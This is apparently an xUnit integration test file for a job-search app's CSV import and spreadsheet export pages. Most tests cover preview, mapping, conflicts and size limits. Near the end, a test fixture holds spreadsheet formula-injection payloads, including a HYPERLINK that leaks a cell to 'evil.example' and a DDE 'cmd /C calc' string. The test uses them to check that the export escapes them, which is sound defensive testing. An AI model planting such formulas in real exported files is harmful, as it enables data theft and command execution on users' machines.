using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using OfferDesk.Web.Tests.Infrastructure;

namespace OfferDesk.Web.Tests.Import;

/// <summary>
/// The import page from the outside: upload, preview, change the mapping, confirm. Nothing is
/// saved before the confirmation; the confirmation adds what the preview showed, checked again.
/// </summary>
[Collection(PostgresServer.CollectionName)]
public sealed class ImportPageTests(WebApps apps) : IClassFixture<WebApps>
{
    private static MultipartFormDataContent Upload(string fileName, byte[] bytes, string version = "")
    {
        var body = new MultipartFormDataContent { { new StringContent(version), "version" } };
        var file = new ByteArrayContent(bytes);
        file.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        body.Add(file, "file", fileName);
        return body;
    }

    /// <summary>Uploads a file from the page's own form, as a browser would; the preview's response.</summary>
    private static async Task<HttpResponseMessage> PreviewAsync(HttpClient browser, string fileName, byte[] bytes)
    {
        var form = await HtmlForm.LoadAsync(browser, "/import", "handler=Preview");
        var body = Upload(fileName, bytes, form["version"] ?? "");
        body.Add(new StringContent(form["__RequestVerificationToken"]!), "__RequestVerificationToken");
        return await browser.PostAsync(form.Action, body);
    }

    /// <summary>Sends the preview's form with one of its buttons (its formaction), as multipart like the page's form.</summary>
    private static Task<HttpResponseMessage> PressAsync(HttpClient browser, HtmlForm form, string handler)
    {
        var body = new MultipartFormDataContent();
        foreach (var (name, value) in form.Fields) body.Add(new StringContent(value), name);
        return browser.PostAsync($"/import?handler={handler}", body);
    }

    private static HtmlForm PreviewForm(string html) => HtmlForm.Find(html, "/import", "name=\"csv\"");

    private static string Text(string html) => Html.Parse(html).Body!.TextContent;

    private static IReadOnlyList<string> Companies(string pipeline) =>
        [.. JsonDocument.Parse(pipeline).RootElement.GetProperty("opportunities").EnumerateArray().Select(o => o.GetProperty("company").GetString()!)];

    [Theory]
    [InlineData("sqlite")]
    [PostgresInlineData("postgres")]
    public async Task ThePreviewShowsTheSourceTheColumnsAndEveryRowAndSavesNothing(string provider)
    {
        var browser = await apps[provider].PageUserAsync();
        await browser.LoadExampleAsync();
        var before = await browser.PipelineAsync();

        var response = await PreviewAsync(browser, "huntr.csv", Encoding.UTF8.GetBytes(ImportReadingTests.Sample("huntr.csv")));

        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        var html = await response.Content.ReadAsStringAsync();
        var page = Html.Parse(html);
        page.QuerySelector("#source-h")!.TextContent.ShouldBe("Looks like a Huntr export");
        // Each column has its own labelled choice, set as recognised.
        page.QuerySelector("label[for=map-2]")!.TextContent.ShouldBe("List");
        page.QuerySelector("#map-2 option[selected]")!.TextContent.ShouldBe("Stage");
        page.QuerySelector("#map-1 option[selected]")!.TextContent.ShouldBe("Role");
        var text = Text(html);
        text.ShouldContain("4 companies to add, 1 row left out. Nothing is saved until you press Add below.");
        text.ShouldContain("Row 2: Umbrella Labs");
        text.ShouldContain("Row 4: \u201cWishlist\u201d is not applied to yet");
        text.ShouldContain("\u201cReference Check\u201d is not one we know: added as Applied");
        // Our words, never the document's.
        text.ShouldNotContain("opportunities[");
        page.QuerySelector("button[formaction='/import?handler=Confirm']")!.TextContent.ShouldBe("Add 4 companies to my search");
        (await browser.PipelineAsync()).ShouldBe(before);
    }

    [Theory]
    [InlineData("sqlite")]
    [PostgresInlineData("postgres")]
    public async Task ConfirmingAddsThePreviewsCompaniesToTheSearchAndKeepsWhatWasThere(string provider)
    {
        var browser = await apps[provider].PageUserAsync();
        await browser.LoadExampleAsync();
        var before = Companies(await browser.PipelineAsync());
        var preview = await (await PreviewAsync(browser, "teal.csv", Encoding.UTF8.GetBytes(ImportReadingTests.Sample("teal.csv")))).Content.ReadAsStringAsync();

        var response = await PressAsync(browser, PreviewForm(preview), "Confirm");

        response.StatusCode.ShouldBe(HttpStatusCode.Redirect);
        response.Location().ShouldBe("/board");
        (await browser.PageAsync("/board")).ShouldContain("Added 6 companies from your Teal export.");
        var pipeline = await browser.PipelineAsync();
        Companies(pipeline).ShouldBe([.. before, "Globochem", "Soylent", "Cyberdyne", "Oscorp", "Wonka Industries", "Stark Industries"]);
        var globochem = Http.Opportunity(pipeline, "globochem");
        globochem.GetProperty("stage").GetString().ShouldBe("interviewing");
        globochem.GetProperty("appliedOn").GetString().ShouldBe("2026-01-05");
        globochem.GetProperty("notes").GetString()!.ShouldContain("Link: https://jobs.example/globochem/7");
        Http.Opportunity(pipeline, "cyberdyne").GetProperty("offer").GetProperty("status").GetString().ShouldBe("verbal");
        Http.Opportunity(pipeline, "oscorp").GetProperty("stage").GetString().ShouldBe("withdrawn");
    }

    [Theory]
    [InlineData("sqlite")]
    [PostgresInlineData("postgres")]
    public async Task ChangingAColumnsChoiceUpdatesThePreviewAndTheImport(string provider)
    {
        var browser = await apps[provider].PageUserAsync();
        var preview = await (await PreviewAsync(browser, "huntr.csv", Encoding.UTF8.GetBytes(ImportReadingTests.Sample("huntr.csv")))).Content.ReadAsStringAsync();

        // The List column left out: every row is Applied, and the preview says why.
        var form = PreviewForm(preview);
        var map = form.Fields.Where(f => f.Key == "map").Select(f => f.Value).ToList();
        map[2] = "ignore";
        form.Remove("map");
        foreach (var choice in map) form.Add("map", choice);
        var updated = await PressAsync(browser, form, "Preview");

        updated.StatusCode.ShouldBe(HttpStatusCode.OK);
        var html = await updated.Content.ReadAsStringAsync();
        Html.Parse(html).QuerySelector("#map-2 option[selected]")!.TextContent.ShouldBe("Leave out");
        Text(html).ShouldContain("No column says where each application stands: every company is added as Applied.");
        Text(html).ShouldContain("5 companies to add");
        (await PressAsync(browser, PreviewForm(html), "Confirm")).StatusCode.ShouldBe(HttpStatusCode.Redirect);
        var pipeline = await browser.PipelineAsync();
        Http.Opportunity(pipeline, "pied-piper").GetProperty("stage").GetString().ShouldBe("applied");
        Http.Opportunity(pipeline, "umbrella-labs").GetProperty("stage").GetString().ShouldBe("applied");
    }

    [Theory]
    [InlineData("sqlite")]
    [PostgresInlineData("postgres")]
    public async Task DatesThatReadTwoWaysAreAskedAndTheAnswerIsWhatIsSaved(string provider)
    {
        var browser = await apps[provider].PageUserAsync();
        var preview = await (await PreviewAsync(browser, "mine.csv", "Company,Date applied\nAcme,03/04/2026\n"u8.ToArray())).Content.ReadAsStringAsync();
        Html.Parse(preview).QuerySelector("label[for=dates]")!.TextContent.ShouldBe("Dates such as 03/04/2026 in this file mean");
        Html.Parse(preview).QuerySelector("#dates option[selected]")!.GetAttribute("value").ShouldBe("month-first");
        Text(preview).ShouldContain("applied Wednesday, March 4");

        var updated = await (await PressAsync(browser, PreviewForm(preview).Set("dates", "day-first"), "Preview")).Content.ReadAsStringAsync();
        Text(updated).ShouldContain("applied Friday, April 3");
        (await PressAsync(browser, PreviewForm(updated), "Confirm")).StatusCode.ShouldBe(HttpStatusCode.Redirect);

        Http.Opportunity(await browser.PipelineAsync(), "acme").GetProperty("appliedOn").GetString().ShouldBe("2026-04-03");
    }

    [Theory]
    [InlineData("sqlite")]
    [PostgresInlineData("postgres")]
    public async Task ImportingTheSameFileAgainAddsNothingAndSaysSo(string provider)
    {
        var browser = await apps[provider].PageUserAsync();
        var bytes = Encoding.UTF8.GetBytes(ImportReadingTests.Sample("jobsync.csv"));
        var first = await (await PreviewAsync(browser, "jobs.csv", bytes)).Content.ReadAsStringAsync();
        (await PressAsync(browser, PreviewForm(first), "Confirm")).StatusCode.ShouldBe(HttpStatusCode.Redirect);
        var after = await browser.PipelineAsync();

        var again = await (await PreviewAsync(browser, "jobs.csv", bytes)).Content.ReadAsStringAsync();
        Text(again).ShouldContain("No new companies to add, 4 rows already in your search, 1 row left out. Row numbers");
        Text(again).ShouldContain("Row 2: Northwind Traders, Senior Engineer: already in your search, so it is left as it is there.");
        Html.Parse(again).QuerySelector("button[formaction='/import?handler=Confirm']").ShouldBeNull();

        // Sent anyway (a hand-made request): refused, nothing changes; from the first preview's old tab, a conflict.
        var response = await PressAsync(browser, PreviewForm(again), "Confirm");
        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        Text(await response.Content.ReadAsStringAsync()).ShouldContain("Nothing in this file is new");
        (await PressAsync(browser, PreviewForm(first), "Confirm")).StatusCode.ShouldBe(HttpStatusCode.Conflict);
        (await browser.PipelineAsync()).ShouldBe(after);
    }

    [Theory]
    [InlineData("sqlite")]
    [PostgresInlineData("postgres")]
    public async Task AConfirmationAfterAnotherChangeIsAConflictAndAddsNothing(string provider)
    {
        var browser = await apps[provider].PageUserAsync();
        await browser.LoadExampleAsync();
        var preview = await (await PreviewAsync(browser, "huntr.csv", Encoding.UTF8.GetBytes(ImportReadingTests.Sample("huntr.csv")))).Content.ReadAsStringAsync();
        var add = await HtmlForm.LoadAsync(browser, "/search", "handler=Add");
        (await add.Set("company", "Edited Elsewhere").SubmitAsync(browser)).StatusCode.ShouldBe(HttpStatusCode.Redirect);
        var afterEdit = await browser.PipelineAsync();

        var response = await PressAsync(browser, PreviewForm(preview), "Confirm");

        response.StatusCode.ShouldBe(HttpStatusCode.Conflict);
        var html = await response.Content.ReadAsStringAsync();
        Text(html).ShouldContain("changed since this page was opened");
        // The preview is shown again, as the search is now, ready to confirm.
        Html.Parse(html).QuerySelector("button[formaction='/import?handler=Confirm']").ShouldNotBeNull();
        (await browser.PipelineAsync()).ShouldBe(afterEdit);
    }

    [Theory]
    [InlineData("sqlite")]
    [PostgresInlineData("postgres")]
    public async Task TheConfirmationChecksTheFileAgain_ATamperedRowIsLeftOut(string provider)
    {
        var browser = await apps[provider].PageUserAsync();
        var preview = await (await PreviewAsync(browser, "spreadsheet.csv", Encoding.UTF8.GetBytes(ImportReadingTests.Sample("spreadsheet.csv")))).Content.ReadAsStringAsync();
        var form = PreviewForm(preview);
        form.Set("csv", form["csv"] + $"{new string('X', 300)},Engineer,Applied,01/03/2026,,,,,\n");

        (await PressAsync(browser, form, "Confirm")).StatusCode.ShouldBe(HttpStatusCode.Redirect);

        Companies(await browser.PipelineAsync()).ShouldBe(["Acme Corp", "Globex", "Initech"]);
    }

    [Theory]
    [InlineData("sqlite")]
    [PostgresInlineData("postgres")]
    public async Task AnImportLeavesAnotherUsersSearchAlone(string provider)
    {
        var app = apps[provider];
        var other = await app.PageUserAsync();
        await other.LoadExampleAsync();
        var theirs = await other.PipelineAsync();
        var browser = await app.PageUserAsync();

        var preview = await (await PreviewAsync(browser, "huntr.csv", Encoding.UTF8.GetBytes(ImportReadingTests.Sample("huntr.csv")))).Content.ReadAsStringAsync();
        (await PressAsync(browser, PreviewForm(preview), "Confirm")).StatusCode.ShouldBe(HttpStatusCode.Redirect);

        Companies(await browser.PipelineAsync()).Count.ShouldBe(4);
        (await other.PipelineAsync()).ShouldBe(theirs);
    }

    [Theory]
    [InlineData("sqlite")]
    [PostgresInlineData("postgres")]
    public async Task AFileOverOneMegabyteIsRefusedWithItsSizeAndChangesNothing(string provider)
    {
        var browser = await apps[provider].PageUserAsync();
        await browser.LoadExampleAsync();
        var before = await browser.PipelineAsync();
        var huge = Encoding.UTF8.GetBytes("Company,Notes\nAcme," + new string('x', 1_300_000) + "\n");

        var response = await PreviewAsync(browser, "huge.csv", huge);

        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        var html = await response.Content.ReadAsStringAsync();
        Html.Problems(html).ShouldHaveSingleItem().Text.ShouldBe("CSV file: the file is 1,269 KB, and the largest accepted is 1,024 KB: export fewer rows, or leave out long columns such as job descriptions");
        Html.Problems(html)[0].Href.ShouldBe("#file");
        (await browser.PipelineAsync()).ShouldBe(before);
    }

    [Fact]
    public async Task AFileOfManyMegabytesIsToldItsSize_PastTheRequestLimitItIsTheKindErrorPage_NothingChanges()
    {
        var browser = await apps["sqlite"].PageUserAsync();
        await browser.LoadExampleAsync();
        var before = await browser.PipelineAsync();

        var large = await PreviewAsync(browser, "large.csv", new byte[9 * 1024 * 1024]);
        large.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        Html.Problems(await large.Content.ReadAsStringAsync()).ShouldHaveSingleItem().Text.ShouldStartWith("CSV file: the file is 9,216 KB, and the largest accepted is 1,024 KB");

        var huge = await PreviewAsync(browser, "huge.csv", new byte[Pages.ImportModel.UploadLimit + 1024]);
        huge.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        var html = await huge.Content.ReadAsStringAsync();
        Html.Parse(html).QuerySelector("h1")!.TextContent.ShouldBe("Something went wrong");
        Text(html).ShouldContain("Your data is safe.");
        html.ShouldNotContain("Exception");
        (await browser.PipelineAsync()).ShouldBe(before);
    }

    [Theory]
    [InlineData("sqlite")]
    [PostgresInlineData("postgres")]
    public async Task AWorkbookOrAnEmptyFileIsRefusedInPlainWords(string provider)
    {
        var browser = await apps[provider].PageUserAsync();

        var workbook = await PreviewAsync(browser, "jobs.xlsx", [(byte)'P', (byte)'K', 3, 4, 20, 0, 6, 0, 8, 0]);
        workbook.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        Html.Problems(await workbook.Content.ReadAsStringAsync()).ShouldHaveSingleItem().Text.ShouldStartWith("CSV file: this is a spreadsheet workbook (such as .xlsx), not a CSV file");

        var empty = await PreviewAsync(browser, "empty.csv", Encoding.UTF8.GetBytes("Company,Role\n"));
        empty.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        Html.Problems(await empty.Content.ReadAsStringAsync()).ShouldHaveSingleItem().Text.ShouldBe("CSV file: the file has column names but no rows below them");
        Companies(await browser.PipelineAsync()).ShouldBeEmpty();
    }

    [Fact]
    public async Task AConfirmationWithoutThePagesTokenIsRefusedAndAddsNothing()
    {
        var browser = await apps["sqlite"].PageUserAsync();
        var preview = await (await PreviewAsync(browser, "huntr.csv", Encoding.UTF8.GetBytes(ImportReadingTests.Sample("huntr.csv")))).Content.ReadAsStringAsync();

        var response = await PressAsync(browser, PreviewForm(preview).WithoutAntiforgery(), "Confirm");

        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        Companies(await browser.PipelineAsync()).ShouldBeEmpty();
    }

    [Theory]
    [InlineData("sqlite")]
    [PostgresInlineData("postgres")]
    public async Task TheImportAndExportPageLeadsToTheImportBesideTheSpreadsheetDownload(string provider)
    {
        var browser = await apps[provider].PageUserAsync();

        var page = Html.Parse(await browser.PageAsync("/data"));

        page.QuerySelector("a[href='/import']")!.TextContent.ShouldBe("Import a CSV file");
        page.QuerySelector("a[href='/data?handler=ExportCsv']").ShouldNotBeNull();
    }

    /// <summary>Values a spreadsheet program would run as formulas, as the security review typed them (issue 22).</summary>
    private const string FormulaSearch = """
        {
          "version": 1,
          "candidate": { "employment": "employed" },
          "opportunities": [
            { "id": "leak", "company": "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Open\")", "role": "+1+cmd|' /C calc'!A0", "stage": "applied",
              "notes": "@SUM(1+1)" },
            { "id": "minus", "company": "-2+3", "role": "\tTabbed", "stage": "interviewing", "notes": "=1+1" }
          ]
        }
        """;

    [Theory]
    [InlineData("sqlite")]
    [PostgresInlineData("postgres")]
    public async Task TheSpreadsheetDownloadEscapesFormulasAndImportsBackUnchanged(string provider)
    {
        var owner = await apps[provider].PageUserAsync();
        (await owner.PutPipelineRawAsync(FormulaSearch)).StatusCode.ShouldBe(HttpStatusCode.NoContent);

        var download = await owner.GetAsync("/data?handler=ExportCsv");
        download.StatusCode.ShouldBe(HttpStatusCode.OK);
        var bytes = await download.Content.ReadAsByteArrayAsync();
        using (var csv = new CsvHelper.CsvParser(new StringReader(Encoding.UTF8.GetString(bytes).TrimStart('\uFEFF')), System.Globalization.CultureInfo.InvariantCulture))
        {
            csv.Read();
            while (csv.Read())
                foreach (var cell in csv.Record!)
                    (cell.Length > 0 && "=+-@\t\r".Contains(cell[0])).ShouldBeFalse($"the cell \"{cell}\" would run as a formula");
        }
        Encoding.UTF8.GetString(bytes).ShouldContain("'=HYPERLINK(");

        // Read back by the import, the values are the ones typed, not the escaped ones.
        var other = await apps[provider].PageUserAsync();
        var preview = await (await PreviewAsync(other, "offerdesk-search.csv", bytes)).Content.ReadAsStringAsync();
        (await PressAsync(other, PreviewForm(preview), "Confirm")).StatusCode.ShouldBe(HttpStatusCode.Redirect);
        var pipeline = JsonDocument.Parse(await other.PipelineAsync()).RootElement.GetProperty("opportunities").EnumerateArray().ToList();
        pipeline.Select(o => o.GetProperty("company").GetString()).ShouldBe(["=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Open\")", "-2+3"]);
        pipeline[0].GetProperty("role").GetString().ShouldBe("+1+cmd|' /C calc'!A0");
        pipeline[0].GetProperty("notes").GetString()!.ShouldContain("@SUM(1+1)");
        pipeline[1].GetProperty("notes").GetString()!.ShouldContain("=1+1");
        pipeline[1].GetProperty("stage").GetString().ShouldBe("interviewing");
    }
}
